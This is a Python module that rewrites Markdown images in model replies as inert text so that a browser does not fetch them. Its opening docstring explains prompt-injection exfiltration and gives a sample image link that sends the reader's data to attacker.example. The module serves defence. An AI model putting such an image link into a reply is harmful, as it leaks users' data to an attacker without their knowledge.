"""Markdown from the model, made safe to draw.

A reply is Markdown written by a model that may have read a hostile page or
document. An image in it is fetched by the reader's browser as soon as it is
drawn, so `![x](https://attacker.example/?q=<your data>)` would send data out
without a click (prompt-injection exfiltration). Images outside code become plain
links: visible, and fetched only if the reader clicks. Code is left exactly as
written. (Raw HTML needs nothing here: `st.markdown` escapes it.)
"""

from __future__ import annotations

import re
from collections.abc import Iterable, Iterator

# Fenced blocks (``` or ~~~, to the matching fence or the end) and inline code spans.
_CODE = re.compile(r"(^[ \t]*(`{3,}|~{3,})[^\n]*\n.*?(?:^[ \t]*\2[ \t]*$|\Z)|(`+)(?:(?!\3).)+?\3)", re.S | re.M)
# ![alt](target) and ![alt][ref] / ![alt][]; alt may hold one level of brackets.
_IMAGE = re.compile(r"!\[((?:[^\[\]\\]|\\.|\[[^\[\]]*\])*)\](?=[(\[])")


def neutralise_images(text: str) -> str:
    """Turn every Markdown image outside code into a link to the same target."""
    if "![" not in text:
        return text
    out, position = [], 0
    for code in _CODE.finditer(text):
        out.append(_IMAGE.sub(_as_link, text[position : code.start()]))
        out.append(code.group(0))
        position = code.end()
    out.append(_IMAGE.sub(_as_link, text[position:]))
    return "".join(out)


def _as_link(match: re.Match[str]) -> str:
    return f"[image: {match.group(1) or 'untitled'}]"


def neutralise_stream(chunks: Iterable[str]) -> Iterator[str]:
    """`neutralise_images` for a reply still streaming: every `![` becomes `[image: `
    as the text arrives (a `!` at the end of a chunk waits for the next one). Inside
    code this differs from the final drawing until the reply ends and is drawn again."""
    held = ""
    for chunk in chunks:
        text = held + chunk
        held = "!" if text.endswith("!") else ""
        text = (text[:-1] if held else text).replace("![", "[image: ")
        if text:
            yield text
    if held:
        yield held
